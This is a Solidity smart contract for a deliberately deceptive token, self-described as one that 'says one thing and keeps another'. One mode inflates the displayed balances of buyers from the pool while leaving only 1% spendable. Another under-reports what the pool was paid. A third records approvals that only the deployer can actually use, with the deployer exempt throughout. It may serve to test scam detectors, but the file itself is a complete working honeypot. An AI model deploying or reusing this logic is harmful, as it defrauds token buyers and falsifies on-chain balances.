// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// A token that says one thing and keeps another: buyers are shown more than they may spend, a pool less
/// than it was paid, or an approval that was never noted.
contract LyingToken {
    enum Lie {
        Balance,
        Pool,
        Approval
    }

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000e18;
    address public pool;

    Lie private immutable LIE;
    address private immutable MAKER;
    mapping(address account => uint256) private _kept;
    mapping(address account => uint256) private _shownMore;
    mapping(address account => uint256) private _shownLess;
    mapping(address account => mapping(address spender => uint256)) private _allowed;
    mapping(address account => mapping(address spender => uint256)) private _shownAllowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, Lie lie) {
        (name, symbol, LIE, MAKER) = (name_, symbol_, lie, msg.sender);
        _kept[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function openTrading(address pool_) external {
        require(msg.sender == MAKER);
        pool = pool_;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _kept[account] + _shownMore[account] - _shownLess[account];
    }

    function allowance(address account, address spender) external view returns (uint256) {
        return _shownAllowance[account][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _shownAllowance[msg.sender][spender] = value;
        if (LIE != Lie.Approval || msg.sender == MAKER) _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _transfer(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _allowed[from][msg.sender] -= value;
        _shownAllowance[from][msg.sender] -= value;
        return _transfer(from, to, value);
    }

    function _transfer(address from, address to, uint256 value) private returns (bool) {
        bool bound = pool != address(0) && from != MAKER && to != MAKER;
        uint256 spendable = bound && LIE == Lie.Balance && from == pool ? value / 100 : value;
        _kept[from] -= value;
        _kept[to] += spendable;
        _shownMore[to] += value - spendable;
        if (bound && LIE == Lie.Pool && to == pool) _shownLess[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
